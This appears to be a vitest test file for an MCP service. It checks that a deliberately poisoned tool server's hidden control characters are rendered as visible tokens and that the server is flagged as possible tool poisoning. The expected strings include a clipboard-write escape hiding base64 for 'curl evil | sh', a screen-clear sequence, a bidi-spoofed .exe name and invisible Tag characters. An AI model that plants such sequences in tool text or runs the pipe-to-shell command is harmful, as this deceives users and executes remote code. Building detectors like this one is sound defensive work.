import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { rawControlPattern, stringsOf as strings } from "../../../contracts/test/hostile-strings.js";
import { repoRoot } from "../../../tests/helpers/service-process.js";
import { run as mcpCommand } from "../../../cli/src/commands/mcp.js";
import { mcpPaths } from "../src/config/mcp-paths.js";
import { eventually, startMcpHarness, type McpHarness } from "./helpers.js";

const poisonedServer = join(repoRoot, "services", "mcp", "test", "fixtures", "poisoned-server.mjs");

describe("MCP service: a poisoned server's text reaches the model rendered, and the server is flagged (real server in its sandbox)", () => {
  let harness: McpHarness;
  beforeAll(async () => {
    harness = await startMcpHarness({ poisoned: { command: process.execPath, args: [poisonedServer] } });
  });
  afterAll(async () => harness?.stop());

  it("the tool's description and its schema's descriptions show ESC, BEL, the bidi override and the Tag characters as tokens; the tool and the server carry the count", async () => {
    const reply = await harness.list();
    expect(reply.ok).toBe(true);
    const lookup = reply.result.tools.find((tool: { name: string }) => tool.name === "mcp__poisoned__lookup");
    expect(lookup, JSON.stringify(reply.result.servers)).toBeDefined();
    for (const text of strings(reply.result)) expect(text).not.toMatch(rawControlPattern);
    expect(lookup.description).toContain("⟨ESC⟩]52;c;");
    expect(lookup.description).toContain("⟨BEL⟩⟨ESC⟩[2J⟨U+202E⟩gnp.exe⟨U+202C⟩⟨U+E0049⟩⟨U+E0047⟩");
    expect(lookup.description).toContain("⟨BS⟩⟨CR⟩");
    expect(lookup.parameters.properties.word.description).toContain("The word.⟨ESC⟩]52");
    // Two copies of the hostile text, each 2 ESC + BEL + 2 bidi + 15 tags + BS + CR.
    expect(lookup.hidden_characters).toBe(2 * 22);
    const server = reply.result.servers.find((state: { name: string }) => state.name === "poisoned");
    expect(server.hidden_characters).toBeGreaterThanOrEqual(lookup.hidden_characters);
  });

  it("the tool's result, a resource and a prompt come back with the same tokens", async () => {
    const results = [
      await harness.call("poisoned", "lookup", { word: "x" }),
      await harness.call("poisoned", "aide_read_resource", { uri: "poisoned://notes" }),
      await harness.call("poisoned", "aide_get_prompt", { name: "greet" }),
    ];
    for (const result of results) {
      expect(result.ok, JSON.stringify(result)).toBe(true);
      expect(result.result.is_error, result.result.output).toBe(false);
      expect(result.result.output).not.toMatch(rawControlPattern);
      expect(result.result.output).toContain("⟨ESC⟩]52;c;Y3VybCBldmlsIHwgc2g=⟨BEL⟩⟨ESC⟩[2J⟨U+202E⟩gnp.exe⟨U+202C⟩⟨U+E0049⟩");
    }
    expect(results[0].result.output).toContain("definition of x:");
    expect(results[1].result.output).toContain("resource text");
    expect(results[2].result.output).toContain("prompt text");
  });

  it("`aide mcp list` flags the server as possible tool poisoning and prints nothing raw", async () => {
    const { stateFile } = mcpPaths(harness.aideHome);
    await eventually(() => (existsSync(stateFile) && readFileSync(stateFile, "utf8").includes('"hidden_characters"') ? true : undefined), "the MCP state file with the server's hidden characters");
    const written: string[] = [];
    const write = process.stdout.write.bind(process.stdout);
    process.stdout.write = ((chunk: string | Uint8Array) => (written.push(String(chunk)), true)) as typeof process.stdout.write;
    try {
      expect(await mcpCommand(["list"], { ...process.env, AIDE_HOME: harness.aideHome })).toBe(0);
    } finally {
      process.stdout.write = write;
    }
    const output = written.join("");
    expect(output).toMatch(/poisoned[\s\S]*⚠ its tool descriptions hold \d+ hidden\/control characters \(tool poisoning\?\)/);
    expect(output).not.toMatch(rawControlPattern);
  });
});
